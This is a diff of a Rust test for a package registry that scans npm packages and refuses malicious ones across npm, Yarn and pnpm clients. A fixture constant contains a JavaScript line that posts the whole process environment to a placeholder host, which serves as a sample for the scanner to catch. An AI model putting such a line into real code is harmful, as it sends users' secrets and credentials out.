@@ -308,7 +308,7 @@ fn clients_are_led_to_the_door_by_their_own_settings_and_back() {
 const THEFT: &str = "if (process.env.NEVER_SET_ANYWHERE) {\n  fetch('http://c.example.invalid', {method: 'POST', body: JSON.stringify(process.env)});\n}\n";
 
 #[test]
-fn npm_is_told_what_the_scan_found_and_what_an_advisory_calls_malicious() {
+fn every_client_is_refused_what_the_scan_found_and_what_an_advisory_calls_malicious() {
     let upstream = Upstream::start();
     for release in [
         NpmRelease::new("harmful", "1.0.0")
@@ -324,14 +324,28 @@ fn npm_is_told_what_the_scan_found_and_what_an_advisory_calls_malicious() {
     let settings = format!("[advisories]\nsources = [{:?}]\n", state.feed().display().to_string());
     state.configure(&State::config(&upstream, "7d", &settings));
     let node = state.start();
-    let npm = JsClient::all().iter().find(|client| client.kind == JsKind::Npm).expect("npm");
-    let room = npm.room(&node.registry());
-    room.add("harmful@1.0.0").fails().says("the scan of harmful-1.0.0.tgz found: collects private data");
-    room.add("evil").fails().says("evil 1.0.0 is malicious (MAL-2026-77: it reads keys)");
-    // Who asks for a range from now on gets what was before, without a word.
-    let room = npm.room(&node.registry());
-    room.add("harmful@>=0").ok();
-    assert_eq!((room.installed("harmful").as_deref(), room.installed("evil")), (Some("0.9.0"), None));
+    for client in JsClient::all() {
+        let room = client.room(&node.registry());
+        let (found, evil) = (room.add("harmful@1.0.0").fails(), room.add("evil").fails());
+        match client.kind {
+            JsKind::Npm => {
+                found.says("the scan of harmful-1.0.0.tgz found: collects private data");
+                evil.says("evil 1.0.0 is malicious (MAL-2026-77: it reads keys)");
+            }
+            JsKind::Yarn => {
+                found.says("403").says("the scan of harmful-1.0.0.tgz found");
+                evil.says("403").says("evil 1.0.0 is malicious");
+            }
+            // These show no reason; docs/packages-npm.md says where it stands.
+            JsKind::Pnpm => drop((found.says("403"), evil.says("403"))),
+            JsKind::YarnClassic => {}
+        }
+        assert_eq!((room.installed("harmful"), room.installed("evil")), (None, None), "{}", client.name);
+        // Who asks for a range from now on gets what was before, without a word.
+        let room = client.room(&node.registry());
+        room.add("harmful@>=0").ok();
+        assert_eq!(room.installed("harmful").as_deref(), Some("0.9.0"), "{}", client.name);
+    }
     state.cli(&["why", "pkg:npm/harmful"]).says("collects private data and sends it away (package/after.js:2)");
 }
 
